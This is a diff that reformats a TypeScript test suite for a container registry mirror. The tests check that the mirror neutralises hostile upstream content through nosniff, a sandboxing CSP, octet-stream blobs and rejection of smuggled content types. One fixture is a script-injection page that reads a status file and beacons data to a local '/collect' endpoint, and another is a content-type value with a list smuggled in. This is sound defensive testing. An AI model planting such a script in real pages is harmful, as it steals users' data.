@@ -20,7 +20,16 @@ let crm: TestCrm;
 const page = (): string =>
   `<!doctype html><html><body><script>fetch("/status.json").then((r) => r.text()).then((t) => { document.title = "STOLEN " + t.length; new Image().src = "http://127.0.0.1:${upstream.port}/collect?n=" + t.length; });</script>hello</body></html>`;
 const digestOf = (s: string): string => "sha256:" + createHash("sha256").update(s).digest("hex");
-const okManifest = JSON.stringify({ schemaVersion: 2, mediaType: OCI_MANIFEST, config: { mediaType: "application/vnd.oci.image.config.v1+json", digest: digestOf("{}"), size: 2 }, layers: [] });
+const okManifest = JSON.stringify({
+  schemaVersion: 2,
+  mediaType: OCI_MANIFEST,
+  config: {
+    mediaType: "application/vnd.oci.image.config.v1+json",
+    digest: digestOf("{}"),
+    size: 2,
+  },
+  layers: [],
+});
 
 beforeAll(async () => {
   upstream = Bun.serve({
@@ -34,25 +43,58 @@ beforeAll(async () => {
       }
       const html = (extra: Record<string, string> = {}): Response => {
         const body = page();
-        return new Response(req.method === "HEAD" ? null : body, { headers: { "content-type": "text/html; charset=utf-8", "content-length": String(Buffer.byteLength(body)), "docker-content-digest": digestOf(body), ...extra } });
+        return new Response(req.method === "HEAD" ? null : body, {
+          headers: {
+            "content-type": "text/html; charset=utf-8",
+            "content-length": String(Buffer.byteLength(body)),
+            "docker-content-digest": digestOf(body),
+            ...extra,
+          },
+        });
       };
       if (path === "/v2/" || path === "/v2") return Response.json({});
       if (/^\/v2\/evil\/page\/blobs\//.test(path)) return html();
       if (/^\/v2\/evil\/page\/manifests\//.test(path)) return html();
       if (path === "/v2/evil/page/tags/list") return html();
       if (/^\/v2\/good\/app\/manifests\//.test(path)) {
-        return new Response(req.method === "HEAD" ? null : okManifest, { headers: { "content-type": OCI_MANIFEST, "content-length": String(Buffer.byteLength(okManifest)), "docker-content-digest": digestOf(okManifest) } });
+        return new Response(req.method === "HEAD" ? null : okManifest, {
+          headers: {
+            "content-type": OCI_MANIFEST,
+            "content-length": String(Buffer.byteLength(okManifest)),
+            "docker-content-digest": digestOf(okManifest),
+          },
+        });
       }
       // A manifest type with a list smuggled behind its parameters, and one spelled in capitals with a parameter.
       const typed = /^\/v2\/(mixed|param)\/app\/manifests\//.exec(path);
       if (typed) {
-        const type = typed[1] === "mixed" ? "application/json; a=b, text/html" : "APPLICATION/VND.OCI.IMAGE.MANIFEST.V1+JSON; charset=utf-8";
-        return new Response(req.method === "HEAD" ? null : okManifest, { headers: { "content-type": type, "content-length": String(Buffer.byteLength(okManifest)), "docker-content-digest": digestOf(okManifest) } });
+        const type =
+          typed[1] === "mixed"
+            ? "application/json; a=b, text/html"
+            : "APPLICATION/VND.OCI.IMAGE.MANIFEST.V1+JSON; charset=utf-8";
+        return new Response(req.method === "HEAD" ? null : okManifest, {
+          headers: {
+            "content-type": type,
+            "content-length": String(Buffer.byteLength(okManifest)),
+            "docker-content-digest": digestOf(okManifest),
+          },
+        });
       }
-      return Response.json({ errors: [{ code: "NAME_UNKNOWN", message: "no" }] }, { status: 404, headers: { "content-type": "text/html" } });
+      return Response.json(
+        { errors: [{ code: "NAME_UNKNOWN", message: "no" }] },
+        { status: 404, headers: { "content-type": "text/html" } },
+      );
     },
   });
-  crm = await startCrm({ mirror: { default_registry: "evil.test", registries: { "evil.test": `http://127.0.0.1:${upstream.port}` } } }, "info");
+  crm = await startCrm(
+    {
+      mirror: {
+        default_registry: "evil.test",
+        registries: { "evil.test": `http://127.0.0.1:${upstream.port}` },
+      },
+    },
+    "info",
+  );
 });
 
 afterAll(async () => {
@@ -63,7 +105,8 @@ afterAll(async () => {
 const blobPath = (): string => `/v2/evil/page/blobs/${digestOf(page())}`;
 
 test("every mirror answer carries nosniff and a sandboxing CSP; blobs are octet-stream; a non-manifest type is not kept", async () => {
-  const ask = (path: string, method = "GET") => fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
+  const ask = (path: string, method = "GET") =>
+    fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
   const cases: Array<[string, string, string | RegExp]> = [
     ["/v2/", "GET", /^application\/json/],
     [blobPath(), "GET", "application/octet-stream"],
@@ -79,15 +122,25 @@ test("every mirror answer carries nosniff and a sandboxing CSP; blobs are octet-
   for (const [path, method, type] of cases) {
     const r = await ask(path, method);
     await r.arrayBuffer();
-    expect([path, method, r.headers.get("x-content-type-options")]).toEqual([path, method, "nosniff"]);
-    expect([path, method, r.headers.get("content-security-policy")]).toEqual([path, method, "sandbox; default-src 'none'"]);
-    if (typeof type === "string") expect([path, method, r.headers.get("content-type")]).toEqual([path, method, type]);
+    expect([path, method, r.headers.get("x-content-type-options")]).toEqual([
+      path,
+      method,
+      "nosniff",
+    ]);
+    expect([path, method, r.headers.get("content-security-policy")]).toEqual([
+      path,
+      method,
+      "sandbox; default-src 'none'",
+    ]);
+    if (typeof type === "string")
+      expect([path, method, r.headers.get("content-type")]).toEqual([path, method, type]);
     else expect(r.headers.get("content-type") ?? "").toMatch(type);
   }
 });
 
 test("a kept manifest type goes out as its bare lower-case essence; a type with a comma is not a manifest type, fresh or from the manifest cache", async () => {
-  const ask = (path: string, method = "GET") => fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
+  const ask = (path: string, method = "GET") =>
+    fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
   const cases: Array<[string, string, string]> = [
     ["/v2/mixed/app/manifests/v1", "GET", "application/octet-stream"],
     ["/v2/mixed/app/manifests/v1", "HEAD", "application/octet-stream"],
@@ -100,14 +153,21 @@ test("a kept manifest type goes out as its bare lower-case essence; a type with 
   for (const [path, method, type] of cases) {
     const r = await ask(path, method);
     await r.arrayBuffer();
-    expect([path, method, r.status, r.headers.get("content-type")]).toEqual([path, method, 200, type]);
+    expect([path, method, r.status, r.headers.get("content-type")]).toEqual([
+      path,
+      method,
+      200,
+      type,
+    ]);
   }
 });
 
 test("mirrorContentType: the essence of a manifest type, octet-stream for anything else", () => {
   expect(mirrorContentType("application/json; a=b, text/html")).toBe("application/octet-stream");
   expect(mirrorContentType("application/json;,text/html")).toBe("application/octet-stream");
-  expect(mirrorContentType('application/json; charset="x, text/html"')).toBe("application/octet-stream");
+  expect(mirrorContentType('application/json; charset="x, text/html"')).toBe(
+    "application/octet-stream",
+  );
   expect(mirrorContentType("Application/JSON; charset=utf-8")).toBe("application/json");
   expect(mirrorContentType("text/html")).toBe("application/octet-stream");
 });
@@ -119,7 +179,17 @@ describe.skipIf(skip)("in Chromium", () => {
   beforeAll(async () => {
     browser = await chromium.launch({
       executablePath: "/usr/bin/chromium",
-      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"],
+      args: [
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-quic",
+        "--no-first-run",
+        "--disable-background-networking",
+        "--disable-component-update",
+        "--disable-sync",
+        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
+      ],
     });
   }, 60_000);
   afterAll(async () => {
@@ -130,7 +200,11 @@ describe.skipIf(skip)("in Chromium", () => {
     collected = [];
     const ctx = await browser.newContext({ acceptDownloads: false });
     try {
-      for (const path of [blobPath(), "/v2/evil/page/manifests/latest", "/v2/evil/page/tags/list"]) {
+      for (const path of [
+        blobPath(),
+        "/v2/evil/page/manifests/latest",
+        "/v2/evil/page/tags/list",
+      ]) {
         const p = await ctx.newPage();
         // A download (octet-stream) aborts the navigation; either way the page must not run.
         await p.goto(`${crm.url}${path}`, { waitUntil: "load" }).catch(() => null);
@@ -149,7 +223,16 @@ describe.skipIf(skip)("in Chromium", () => {
 });
 
 test("crm's own refusals under the mirror path (credentials asked for) carry the same fields", async () => {
-  const locked = await startCrm({ access: { users: { alice: await Bun.password.hash("pw", { algorithm: "argon2id" }) } }, mirror: { default_registry: "evil.test", registries: { "evil.test": `http://127.0.0.1:${upstream.port}` } } }, "info");
+  const locked = await startCrm(
+    {
+      access: { users: { alice: await Bun.password.hash("pw", { algorithm: "argon2id" }) } },
+      mirror: {
+        default_registry: "evil.test",
+        registries: { "evil.test": `http://127.0.0.1:${upstream.port}` },
+      },
+    },
+    "info",
+  );
   try {
     const r = await fetch(`${locked.url}${blobPath()}`, { proxy: false } as RequestInit);
     await r.arrayBuffer();
